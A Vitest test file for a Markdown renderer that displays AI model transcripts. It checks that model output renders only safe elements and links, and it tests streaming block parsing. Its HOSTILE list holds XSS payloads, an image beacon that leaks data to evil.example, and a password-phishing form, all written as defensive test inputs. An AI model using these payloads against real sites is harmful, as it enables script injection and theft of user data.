import { cleanup, render } from '@testing-library/preact'
import fc from 'fast-check'
import { afterEach, describe, expect, test } from 'vitest'
import { blocksOf, isClosed, safeAddress } from '../src/sessions/transcript/blocks'
import { Markdown } from '../src/sessions/transcript/markdown'

afterEach(cleanup)

const show = (text: string, live = false) => render(<Markdown text={text} live={live} apply={null} />).container
const ALLOWED = new Set(
  'div p h4 h5 h6 ul ol li blockquote hr a strong em del code pre br table thead tbody tr th td span figure figcaption button svg path rect circle input'.split(
    ' ',
  ),
)
const ATTRIBUTES =
  /^(class|href|title|target|rel|start|style|type|tabindex|disabled|checked|width|height|viewbox|fill|stroke.*|aria-hidden|d|x|y|rx|ry|cx|cy|r)$/

const HOSTILE = [
  '<script>alert(1)</script>',
  'text <script>alert(1)</script> text',
  '<img src=x onerror=alert(1)>',
  '![x](https://evil.example/p.png?leak=1)',
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x](vbscript:x)',
  '[x](//evil.example)',
  '[x](/api/me)',
  '[x]( "onmouseover=alert(1)")',
  '<https://ok.example/">onclick=alert(1)>',
  '<div><p><a href="javascript:1"><b onclick=x>deep</b></a></p></div>',
  '<iframe src="https://evil.example"></iframe>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '- <img src=x onerror=1>\n- > <script>x</script>',
  '| <img src=x> | [a](javascript:1) |\n|-|-|\n| <script> | ![i](http://x/y) |',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '[a]: javascript:alert(1)\n\n[a]',
  '<!-- <script>alert(1)</script> -->',
  '&lt;img src=x onerror=1&gt; &#60;script&#62;',
  '<style>*{display:none}</style>',
  '<form action=https://evil.example><input name=password>',
]

describe('markdown of a model is data', () => {
  test.each(HOSTILE)('nothing but plain elements comes out of %j', (text) => {
    for (const live of [true, false]) {
      const box = show(text, live)
      for (const element of box.querySelectorAll('*')) {
        expect(ALLOWED).toContain(element.tagName.toLowerCase())
        for (const { name } of element.attributes) expect(name.toLowerCase()).toMatch(ATTRIBUTES)
      }
      for (const link of box.querySelectorAll('a')) {
        expect(link.getAttribute('href')).toMatch(/^(https?:|mailto:)/)
        expect(link.rel).toContain('noopener')
      }
      cleanup()
    }
  })

  test('markup is shown as the characters it is', () => {
    expect(show('a <b>bold</b> <img src=x>').textContent).toBe('a <b>bold</b> <img src=x>')
  })

  test('an image from outside is a link that loads nothing', () => {
    const box = show('![plan](https://example.org/p.png)')
    expect(box.querySelector('img')).toBeNull()
    expect(box.querySelector('a')?.textContent).toBe('Image: plan')
  })

  test.each([
    ['https://a.example/x', true],
    ['http://a.example', true],
    ['mailto:a@b.example', true],
    ['javascript:alert(1)', false],
    ['file:///etc/passwd', false],
    ['relative/path', false],
    ['', false],
  ])('a link to %j is allowed: %s', (href, allowed) => {
    expect(safeAddress(href) !== null).toBe(allowed)
  })

  test('entities are characters, once', () => {
    expect(show('a &amp;&lt; b &amp;lt;').textContent).toBe('a &< b &lt;')
  })
})

const PARTS = [
  'A paragraph\nof two lines.',
  '# Title',
  '- one\n- two\n\n  more of two',
  '1. a\n2. b',
  '```py\nx = 1\n\ny = 2\n```',
  '~~~\n```\n~~~',
  '> quote\n> on',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '    indented',
  '<div>\nmarkup\n</div>',
  '---',
  'Setext\n===',
  '**bold** and `code` and 🙂',
]
const answers = fc.array(fc.constantFrom(...PARTS), { minLength: 1, maxLength: 8 }).map((parts) => parts.join('\n\n'))

describe('streaming markdown', () => {
  test('however an answer is cut, it ends as if read at once', () => {
    fc.assert(
      fc.property(answers, fc.array(fc.integer({ min: 1, max: 12 }), { minLength: 1 }), (text, sizes) => {
        let blocks: ReturnType<typeof blocksOf> | undefined
        for (let at = 0, n = 0; at < text.length; n++) {
          at += sizes[n % sizes.length] ?? 1
          blocks = blocksOf(text.slice(0, at), blocks)
        }
        const bare = (found: ReturnType<typeof blocksOf>) =>
          [...found.done, ...found.tail].map(({ token, before }) => ({
            type: token.type,
            raw: token.raw.trimEnd(),
            before,
          }))
        expect(bare(blocks ?? blocksOf(''))).toEqual(bare(blocksOf(text)))
      }),
    )
  })

  test('finished blocks are the same objects afterwards', () => {
    const one = blocksOf('first\n\nsecond\n\nthird\n\nfou')
    const two = blocksOf('first\n\nsecond\n\nthird\n\nfourth\n\nfifth', one)
    expect(one.done).toHaveLength(2)
    expect(two.done.slice(0, 2)).toEqual(one.done)
    expect(two.done[1]).toBe(one.done[1])
  })

  test('what is finished is not read again', () => {
    const paragraph = `${'word '.repeat(20)}\n\n`
    const text = paragraph.repeat(200)
    let blocks = blocksOf('')
    for (let at = 0; at <= text.length; at += 50) blocks = blocksOf(text.slice(0, at), blocks)
    expect(blocks.lexed).toBeLessThan(text.length * 8)
  })

  test('a text that is not a continuation is read anew', () => {
    const blocks = blocksOf('# other', blocksOf('something\n\nelse'))
    expect([...blocks.done, ...blocks.tail].map((block) => block.token.type)).toEqual(['heading'])
  })

  test('line ends of other systems are line ends', () => {
    let blocks = blocksOf('a\r')
    blocks = blocksOf('a\r\n\r\nb', blocks)
    expect([...blocks.done, ...blocks.tail]).toHaveLength(2)
  })

  test('an open fence is a code block already, and is not closed', () => {
    const token = blocksOf('```py\nx = 1').tail[0]?.token
    expect(token?.type).toBe('code')
    expect(token?.type === 'code' && isClosed(token as never)).toBe(false)
  })

  test.each([
    ['one after another', '```\na\n```\n\ntext\n\n```\nb\n```\n', [0, 1]],
    [
      'one in a list counts, and can only be copied',
      '```\na\n```\n\n- x\n\n  ```\n  b\n  ```\n\n```\nc\n```\n',
      [0, 2],
    ],
    ['one indented by four does not count', '1. x\n\n    ```\n    b\n    ```\n\n```\nc\n```\n', [0]],
    ['one in a quotation does not count', '> ```\n> b\n> ```\n\n```\nc\n```\n', [0]],
    ['code without a fence does not count', 'x\n\n    indented\n\n~~~\nc\n~~~\n', [0]],
    ['a fence in a fence is its text', '````\n```\na\n```\n````\n\n```\nb\n```\n', [0, 1]],
  ])('blocks are numbered as the host does: %s', (_, text, numbers) => {
    const seen: number[] = []
    const apply = { name: 'Apply', label: 'Apply', why: '', run: async (block: number) => void seen.push(block) }
    const box = render(<Markdown text={text} live={false} apply={apply} />).container
    for (const button of box.querySelectorAll<HTMLButtonElement>('.act')) button.click()
    expect(seen).toEqual(numbers)
  })
})
